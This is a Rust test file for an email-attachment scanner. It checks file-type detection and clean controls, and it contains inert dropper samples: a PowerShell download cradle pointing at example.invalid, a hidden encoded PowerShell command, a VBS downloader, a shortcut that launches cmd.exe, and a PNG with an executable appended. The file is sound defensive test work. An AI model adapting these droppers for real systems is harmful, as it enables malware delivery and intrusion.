@@ -1,0 +1,300 @@
+//! True types beyond magic numbers, and clean controls of every common
+//! attachment type under the default policy.
+
+use std::io::{Cursor, Write};
+
+use crate::util::*;
+use xferscan::{TypeGroup, Verdict};
+
+fn ty(name: &str, data: Vec<u8>) -> (String, TypeGroup) {
+    let r = scan(name, data);
+    let t = r.true_type().unwrap();
+    (t.name().to_string(), t.group())
+}
+
+pub fn ooxml(kind: &str, macros: bool) -> Vec<u8> {
+    let main = match kind {
+        "word" => "word/document.xml",
+        "xl" => "xl/workbook.xml",
+        _ => "ppt/presentation.xml",
+    };
+    let mut entries: Vec<(String, Vec<u8>)> = vec![
+        (
+            "[Content_Types].xml".into(),
+            b"<?xml version=\"1.0\"?><Types/>".to_vec(),
+        ),
+        (
+            "_rels/.rels".into(),
+            b"<?xml version=\"1.0\"?><Relationships/>".to_vec(),
+        ),
+        (
+            main.into(),
+            b"<?xml version=\"1.0\"?><document>Quarterly figures</document>".to_vec(),
+        ),
+    ];
+    if macros {
+        entries.push((
+            format!("{kind}/vbaProject.bin"),
+            ole(&["VBA/dir", "PROJECT"], true),
+        ));
+    }
+    let refs: Vec<(&str, &[u8])> = entries.iter().map(|(n, d)| (n.as_str(), &d[..])).collect();
+    zip_of(&refs, Method::Deflated)
+}
+
+/// An OLE2 compound file with these streams.
+pub fn ole(streams: &[&str], _macros: bool) -> Vec<u8> {
+    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    for s in streams {
+        let path = format!("/{s}");
+        if let Some((dir, _)) = path.rsplit_once('/')
+            && !dir.is_empty()
+            && !cf.exists(dir)
+        {
+            cf.create_storage_all(dir).unwrap();
+        }
+        let mut st = cf.create_stream(&path).unwrap();
+        st.write_all(b"content of the stream, plain words").unwrap();
+    }
+    cf.flush().unwrap();
+    cf.into_inner().into_inner()
+}
+
+#[test]
+fn docx_is_not_a_zip_and_zip_is_not_a_docx() {
+    assert_eq!(ty("report.docx", ooxml("word", false)).0, "docx");
+    assert_eq!(ty("sheet.xlsx", ooxml("xl", false)).0, "xlsx");
+    assert_eq!(ty("deck.pptx", ooxml("ppt", false)).0, "pptx");
+    let plain = zip_of(
+        &[("word/document.xml", &b"<x/>"[..]), ("a.txt", &b"a"[..])],
+        Method::Deflated,
+    );
+    assert_eq!(ty("plain.zip", plain).0, "zip");
+}
+
+#[test]
+fn macro_documents_by_their_vba_project() {
+    assert_eq!(
+        ty("report.docm", ooxml("word", true)),
+        ("docx".into(), TypeGroup::MacroDocument)
+    );
+    assert_eq!(
+        ty("a.doc", ole(&["WordDocument", "Macros/VBA/dir"], true)),
+        ("doc".into(), TypeGroup::MacroDocument)
+    );
+    assert_eq!(
+        ty("a.doc", ole(&["WordDocument"], false)),
+        ("doc".into(), TypeGroup::Document)
+    );
+    assert_eq!(
+        ty(
+            "b.xls",
+            ole(&["Workbook", "_VBA_PROJECT_CUR/VBA/dir"], true)
+        )
+        .1,
+        TypeGroup::MacroDocument
+    );
+    assert_eq!(ty("c.ppt", ole(&["PowerPoint Document"], false)).0, "ppt");
+}
+
+#[test]
+fn odf_jar_and_apk_by_their_directory() {
+    let mut z = ZipWriter::new();
+    z.entry(
+        "mimetype",
+        b"application/vnd.oasis.opendocument.text",
+        Method::Stored,
+    );
+    z.entry(
+        "content.xml",
+        b"<office:document-content/>",
+        Method::Deflated,
+    );
+    assert_eq!(ty("a.odt", z.finish()).0, "odt");
+    let jar = zip_of(
+        &[
+            ("META-INF/MANIFEST.MF", &b"Manifest-Version: 1.0\n"[..]),
+            ("a/B.class", &b"\xca\xfe\xba\xbe"[..]),
+        ],
+        Method::Deflated,
+    );
+    assert_eq!(ty("a.jar", jar).0, "jar");
+    let apk = zip_of(
+        &[
+            ("AndroidManifest.xml", &b"\x03\x00"[..]),
+            ("classes.dex", &b"dex\n035\0"[..]),
+        ],
+        Method::Deflated,
+    );
+    assert_eq!(ty("a.apk", apk), ("apk".into(), TypeGroup::Executable));
+}
+
+#[test]
+fn executables_and_their_flavours() {
+    assert_eq!(ty("a.exe", tiny_pe(false)).0, "pe-exe");
+    assert_eq!(ty("a.dll", tiny_pe(true)).0, "pe-dll");
+    let mut net = tiny_pe(false);
+    let clr = 0x98 + 96 + 14 * 8;
+    net[clr..clr + 4].copy_from_slice(&0x2000u32.to_le_bytes());
+    net[clr + 4..clr + 8].copy_from_slice(&0x48u32.to_le_bytes());
+    assert_eq!(ty("a.exe", net).0, "pe-dotnet");
+    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
+    elf.resize(64, 0);
+    assert_eq!(ty("a", elf).1, TypeGroup::Executable);
+    let mut macho = vec![0xcf, 0xfa, 0xed, 0xfe];
+    macho.resize(64, 0);
+    assert_eq!(ty("a", macho).1, TypeGroup::Executable);
+    // "MZ" alone is text, not an executable.
+    assert_eq!(
+        ty("notes.txt", b"MZ is where the meeting is".to_vec()).1,
+        TypeGroup::Text
+    );
+}
+
+#[test]
+fn shortcuts_and_disk_images() {
+    let mut lnk = vec![0u8; 0x4c];
+    lnk[0] = 0x4c;
+    lnk[4..20].copy_from_slice(&[
+        0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
+    ]);
+    lnk.extend(
+        "C:\\Windows\\System32\\cmd.exe /c calc"
+            .encode_utf16()
+            .flat_map(|u| u.to_le_bytes()),
+    );
+    let r = scan("invoice.lnk", lnk);
+    assert_eq!(r.true_type().unwrap().name(), "lnk");
+    assert!(r.matched("LNK_Launches_Shell"));
+    let mut iso = vec![0u8; 0x9000];
+    iso[0x8001..0x8006].copy_from_slice(b"CD001");
+    assert_eq!(ty("a.iso", iso), ("iso".into(), TypeGroup::DiskImage));
+    let mut vhd = vec![0u8; 4096];
+    vhd[4096 - 512..4096 - 504].copy_from_slice(b"conectix");
+    assert_eq!(ty("a.vhd", vhd).0, "vhd");
+    let mut vhdx = b"vhdxfile".to_vec();
+    vhdx.resize(4096, 0);
+    assert_eq!(ty("a.vhdx", vhdx).0, "vhdx");
+}
+
+#[test]
+fn scripts_by_content() {
+    let cases: &[(&str, &[u8], &str)] = &[
+        ("a.txt", b"$wc = New-Object Net.WebClient\nIEX ($wc.DownloadString('http://example.invalid/x'))\n", "powershell"),
+        ("a.txt", b"On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\"\n", "vbscript"),
+        ("a.txt", b"var sh = new ActiveXObject(\"WScript.Shell\");\nfunction go() { sh.Run(\"calc\"); };\ngo();\n", "jscript"),
+        ("a.txt", b"<html><head><HTA:APPLICATION id=\"x\"/></head><body></body></html>", "hta"),
+        ("a.txt", b"@echo off\r\nset x=1\r\nstart calc.exe\r\n", "batch"),
+        ("a", b"#!/bin/sh\nrm -rf /tmp/x\n", "shell"),
+        ("a", b"#!/usr/bin/env python3\nprint('hi')\n", "python"),
+    ];
+    for (name, body, want) in cases {
+        let (got, group) = ty(name, body.to_vec());
+        assert_eq!(&got, want, "{}", String::from_utf8_lossy(body));
+        assert_eq!(group, TypeGroup::Script);
+    }
+    // A text file named as a script is that script: the name picks the
+    // interpreter.
+    assert_eq!(ty("run.vbs", b"just some words".to_vec()).0, "vbscript");
+}
+
+#[test]
+fn script_droppers_match_the_built_in_rules() {
+    let ps = b"$c = New-Object System.Net.WebClient; IEX $c.DownloadString('http://example.invalid/a.ps1')";
+    assert!(scan("a.ps1", ps.to_vec()).matched("PowerShell_Download_Cradle"));
+    let enc = format!(
+        "powershell.exe -NoP -w hidden -enc {}",
+        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
+    );
+    assert!(scan("a.bat", enc.into_bytes()).matched("PowerShell_Encoded_Command"));
+    let vbs = b"Set x = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\n";
+    assert!(scan("a.vbs", vbs.to_vec()).matched("VBS_Downloader"));
+}
+
+#[test]
+fn polyglot_image_with_an_executable_behind_it() {
+    let mut data = tiny_png();
+    data.extend(tiny_pe(false));
+    let r = scan("cat.png", data);
+    assert_eq!(r.true_type().unwrap().name(), "png");
+    assert!(
+        r.objects[0]
+            .types
+            .iter()
+            .any(|t| t.ty.name() == "pe-exe" && t.offset > 0)
+    );
+    assert!(has_key(&r, "type.polyglot"));
+    // The executable is carved out and judged as one.
+    assert!(
+        r.objects
+            .iter()
+            .any(|o| o.path.name().starts_with("<embedded pe-exe"))
+    );
+    assert_eq!(r.verdict, Verdict::Malicious);
+}
+
+fn jpeg() -> Vec<u8> {
+    let mut v = vec![0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10];
+    v.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
+    v.extend(vec![0x55; 200]);
+    v.extend_from_slice(&[0xff, 0xd9]);
+    v
+}
+
+fn mp4() -> Vec<u8> {
+    let mut v = vec![0, 0, 0, 0x18];
+    v.extend_from_slice(b"ftypmp42\0\0\0\0mp42isom");
+    v.extend_from_slice(&[0, 0, 0, 8]);
+    v.extend_from_slice(b"free");
+    v.extend(vec![0x11; 300]);
+    v
+}
+
+fn mp3() -> Vec<u8> {
+    let mut v = b"ID3\x03\0\0\0\0\0\x0a".to_vec();
+    v.extend(vec![0; 10]);
+    v.extend_from_slice(&[0xff, 0xfb, 0x90, 0x64]);
+    v.extend(vec![0x42; 400]);
+    v
+}
+
+fn pdf() -> Vec<u8> {
+    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n".to_vec()
+}
+
+#[test]
+fn clean_controls_of_common_attachments_stay_clean() {
+    let mut gif = b"GIF89a\x01\0\x01\0\x80\0\0".to_vec();
+    gif.extend(vec![0; 40]);
+    let controls: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("report.pdf", pdf(), "pdf"),
+        ("photo.png", tiny_png(), "png"),
+        ("photo.jpg", jpeg(), "jpg"),
+        ("anim.gif", gif, "gif"),
+        ("report.docx", ooxml("word", false), "docx"),
+        ("sheet.xlsx", ooxml("xl", false), "xlsx"),
+        (
+            "notes.txt",
+            b"Dear team,\nthe figures are attached.\nBest\n".to_vec(),
+            "text",
+        ),
+        (
+            "data.csv",
+            b"date,amount\n2026-01-01,10\n2026-01-02,12\n".to_vec(),
+            "text",
+        ),
+        ("song.mp3", mp3(), "mp3"),
+        ("clip.mp4", mp4(), "mp4"),
+        (
+            "page.html",
+            b"<!DOCTYPE html><html><body><p>Hello</p></body></html>".to_vec(),
+            "html",
+        ),
+        ("data.json", b"{\"a\": 1, \"b\": [1, 2]}".to_vec(), "json"),
+    ];
+    for (name, data, want) in controls {
+        let r = scan(name, data);
+        assert_eq!(r.true_type().unwrap().name(), want, "{name}");
+        assert_clean(&r);
+    }
+}
